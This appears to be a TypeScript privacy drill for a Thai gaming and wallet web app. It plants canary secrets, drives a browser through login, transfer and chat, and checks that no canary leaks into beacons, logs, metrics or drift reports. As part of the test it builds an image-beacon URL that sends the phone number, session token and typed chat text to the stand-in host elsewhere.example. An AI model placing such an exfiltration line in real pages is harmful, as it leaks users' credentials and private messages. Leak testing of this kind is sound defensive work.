import { joinWords } from '@krapao/contracts/kernel/whole-words';
import { createClient } from '@krapao/contracts/client';
import { controlOperations, type ControlOperations } from '@krapao/contracts/control/operations';
import { WORLD_HEADER } from '@krapao/contracts/control/world';
import type { Page, Request } from 'playwright';
import { balancer, kinds, NEEDS_BALANCERS, type Kind } from './balancer.ts';
import { launch, NEEDS_CHROMIUM, phone } from './browser.ts';
import { foundIn, written, type Canaries } from './canaries.ts';
import { everywhere, lyingOperator, type Json } from './liar.ts';
import { acceptAgreement, confirmTransfer, openTransfer, settled, sheet, transferred } from './screens.ts';
import { after, freePort, mustHold, NEEDS_BUILD, type Running, type Stand } from './stand.ts';
import type { Drill } from './run.ts';

/** They replace the member's usual data; of the same length and kind, so that every rule of the contract holds. */
const placed = {
  phone: ['0812345678', '0898877661'],
  password: ['password', 'Canary-77-Secret'],
  name: ['สมชาย ใจดี', 'คานารี ลับมาก'],
  'bank account': ['4069876543', '9087612345'],
  'game password': ['Kp4788c848', 'KpCanary09'],
  "a friend's name": ['สมหญิง รักดี', 'มิตรลับ สุดใจ'],
  'a word in the chat': ['สวัสดีครับ', 'ความลับในแชท'],
} as const;
const AMOUNT = '1234.56';
const TYPED = 'พิมพ์ไว้เป็นความลับ';

/** Makes a world in which all data of a member are canaries; returns the member's id. */
async function canaryWorld(simulator: string, id: string): Promise<string> {
  const control = (world: string) =>
    createClient<ControlOperations>({
      routes: controlOperations,
      baseUrl: simulator,
      requestedWith: 'drill',
      headers: { [WORLD_HEADER]: world },
    });
  const before = `${id}-before`;
  await control(before)('control.createWorld', {
    body: { id: before, changes: { somchai: { wallet: 76_543.21 } } },
  });
  const capsule = await control(before)('control.capsule', { params: { id: before } });
  let text = JSON.stringify({ ...capsule, digest: undefined });
  for (const [was, is] of Object.values(placed)) {
    const values = JSON.stringify(was).slice(1, -1);
    // Only the value is replaced, not the word "password" in names.
    text =
      was === 'password'
        ? text.replaceAll('"password":"password"', `"password":"${is}"`)
        : text.replaceAll(values, is);
  }
  const { members } = await control(id)('control.createWorld', {
    body: { id, capsule: JSON.parse(text) as Record<string, unknown> },
  });
  return members.find(({ persona }) => persona === 'somchai')!._id;
}

interface Walked {
  readonly page: Page;
  readonly token: string;
  /** Bodies of the beacon, as they left the page. */
  readonly beacons: readonly string[];
  /** All that the page has received and shown. */
  readonly seen: () => string;
}

const canariesOf = (token: string): Canaries => ({
  ...Object.fromEntries(Object.entries(placed).map(([name, [, is]]) => [name, is])),
  token,
  balance: '76543.21',
  'an amount': AMOUNT,
  'what was typed': TYPED,
});

const isFirstReport = (request: Request) =>
  new URL(request.url()).pathname === '/_t' && request.postData()?.includes('"start":true') === true;

/** A player's evening, during which the operator starts to answer wrongly. */
async function evening(page: Page, origin: string, userId: string): Promise<Omit<Walked, 'page'>> {
  const beacons: string[] = [];
  const answers: string[] = [];
  page.on('request', (request) => {
    if (new URL(request.url()).pathname === '/_t') beacons.push(request.postData() ?? '');
    else answers.push(request.postData() ?? '', request.headers()['authorization'] ?? '');
  });
  page.on('response', (answer) => {
    if (answer.url().includes('/api/'))
      void answer.text().then(
        (text) => answers.push(text),
        () => undefined,
      );
  });
  await page.goto(`${origin}/login`);
  await page.getByLabel('เบอร์โทรศัพท์').fill(placed.phone[1]);
  await page.getByLabel('รหัสผ่าน', { exact: true }).fill(placed.password[1]);
  await page.getByRole('button', { name: 'เข้าสู่ระบบ', exact: true }).click();
  await page.waitForURL(/\/user\/home/);
  await acceptAgreement(page);
  await openTransfer(page);
  await sheet(page).getByLabel('จาก', { exact: true }).selectOption('WALLET');
  await sheet(page).getByLabel('ไปที่', { exact: true }).selectOption('PG');
  await sheet(page).getByLabel('จำนวนเงิน').fill(AMOUNT);
  await sheet(page)
    .getByRole('button', { name: joinWords('ตรวจสอบรายการ') })
    .click();
  await confirmTransfer(page).click();
  await transferred(page).waitFor();
  await page.goto(`${origin}/user/home`);
  await page.getByRole('button', { name: joinWords('แชทกับเจ้าหน้าที่') }).click();
  await sheet(page).getByLabel('พิมพ์ข้อความ').fill(TYPED);
  await sheet(page).getByRole('button', { name: 'ส่ง', exact: true }).click();
  await sheet(page).getByRole('log').getByText(TYPED).first().waitFor();
  for (const path of ['/user/statement', '/user/bonus', '/user/spin', '/user/profile', '/user/contact']) {
    // A page that is left before its first report reports nothing; the first one has all that was noticed until then.
    const reported = page.waitForRequest(isFirstReport);
    await page.goto(origin + path);
    await settled(page);
    await reported;
  }
  // A call that only a member may make, and a pasted link; both have secrets in the address.
  const asked = await page.evaluate(
    async ([phone, secret, typed, id]) => {
      const token = sessionStorage.getItem('token') ?? '';
      const headers = {
        authorization: `Bearer ${token}`,
        'x-requested-with': 'drill',
        'content-type': 'application/json',
      };
      const post = (body: object) => ({ method: 'POST', headers, body: JSON.stringify(body) });
      const texts = [
        await fetch(`/api/autoLogin/pg/${phone}/${secret}`, { headers }),
        await fetch('/api/wallet/account/PG', { headers }),
        await fetch('/api/invite', post({ page: 1, limit: 50 })),
        await fetch('/api/chat/history', post({ userId: id, guestId: null, limit: 50, skip: 0 })),
      ].map((answer) => answer.text());
      const picture = new Image();
      picture.src = `https://elsewhere.example/${phone}?token=${token}&text=${encodeURIComponent(typed!)}`;
      document.body.append(picture);
      return Promise.all(texts);
    },
    [placed.phone[1], placed['game password'][1], TYPED, userId],
  );
  answers.push(...asked);
  await page.goto(`${origin}/login?token=${placed['game password'][1]}`).catch(() => undefined);
  const token = await page.evaluate(() => sessionStorage.getItem('token') ?? '');
  return { token, beacons, seen: () => answers.join('\n') };
}

/** Answers that break the contract, with canaries in place of numbers, of words and in unknown fields. */
const leaking = (body: Json): Json =>
  everywhere(body, (value) => {
    if (typeof value === 'number') return placed['bank account'][1];
    if (typeof value === 'object' && value !== null && !Array.isArray(value))
      return Object.fromEntries([
        ...Object.entries(value),
        [placed.phone[1], placed.name[1]],
        [placed.name[1], 1],
      ]);
    return value;
  });

async function behind(stand: Stand, kind: Kind, simulator: Running): Promise<void> {
  const id = `canaries-${kind}`;
  const userId = await canaryWorld(simulator.origin, id);
  const operator = await lyingOperator(stand, simulator.origin);
  const metricsPort = await freePort();
  const app = await stand.app(operator.origin, {
    KRAPAO_METRICS_PORT: String(metricsPort),
    KRAPAO_TRUST_PROXY: '1',
  });
  const front = await balancer(stand, kind, [new URL(app.origin).host]);
  const browser = await launch();
  stand.atEnd(() => browser.close());
  const context = await phone(browser, front.origin);
  await context.addCookies([{ name: 'mock_world', value: id, url: front.origin }]);
  const page = await context.newPage();
  let isSignedIn = false;
  page.on('framenavigated', () => (isSignedIn ||= page.url().includes('/user/')));
  // Home gets correct answers; afterwards the operator answers wrongly.
  let [reads, wrong] = [0, 0];
  operator.says((path, body) => {
    reads += 1;
    const lies = isSignedIn && /^\/api\/(?:bonus|spinwheel|refund|lookup)/.test(path);
    if (lies) wrong += 1;
    return lies ? leaking(body) : body;
  });
  const token: string[] = [];
  page.on('request', (request) => {
    const [, bearer] = /^Bearer (.+)/.exec(request.headers()['authorization'] ?? '') ?? [];
    if (bearer) token.push(bearer);
  });
  const { beacons, seen } = await evening(page, front.origin, userId);
  await context.close();
  // Balancers and pages write with a delay.
  await after(1_000);
  const canaries = canariesOf(token[0] ?? '');
  const metrics = await (await fetch(`http://127.0.0.1:${metricsPort}/metrics`)).text();
  const told = app
    .output()
    .split('\n')
    .filter((line) => line.startsWith('{'));
  const types = [
    ...new Set(told.map((line) => (JSON.parse(line) as { readonly type?: string }).type ?? 'log')),
  ];

  const given = foundIn(seen(), canaries);
  const missing = Object.keys(canaries).filter((name) => !given.includes(name));
  mustHold(
    `${kind}: ${reads} answers, ${wrong} of them wrong; canaries that the page never had: ${missing.join() || 'none'}`,
    missing.length === 0 && wrong > 0,
  );
  mustHold(
    `${kind}: ${told.length} lines were told, of ${types.join()}`,
    ['start', 'money', 'drift'].every((type) => types.includes(type)),
  );
  const places: Readonly<Record<string, string>> = {
    [`${beacons.length} beacons`]: beacons.join('\n'),
    "the server's lines": app.output(),
    'drift reports': told.filter((line) => line.includes('"type":"drift"')).join('\n'),
    'the metrics': metrics,
    [`the log of ${kind}`]: front.log(),
  };
  for (const [place, text] of Object.entries(places)) {
    const found = foundIn(text, canaries);
    mustHold(
      `${kind}: ${text.length} letters of ${place}, canaries in them: ${found.length} ${found.join()}`,
      found.length === 0 && text.length > 0,
    );
  }
}

export const drill: Drill = {
  shows:
    'secrets, bank numbers, names, amounts and tokens of a whole world: none in beacon, metrics, logs or drift reports',
  needs: `${NEEDS_BALANCERS}; ${NEEDS_CHROMIUM}; ${NEEDS_BUILD}`,
  async run(stand, [only]) {
    const canaries = canariesOf('kp_a-token-of-a-member');
    const blind = Object.entries(canaries).flatMap(([name, canary]) =>
      written(canary).filter((way) => !foundIn(`…${way}…`, canaries).includes(name)),
    );
    mustHold(
      `the drill finds each of ${Object.keys(canaries).length} canaries in every way of writing it`,
      blind.length === 0,
    );
    const simulator = await stand.simulator();
    for (const kind of kinds.filter((one) => only === undefined || one === only))
      await behind(stand, kind, simulator);
  },
};
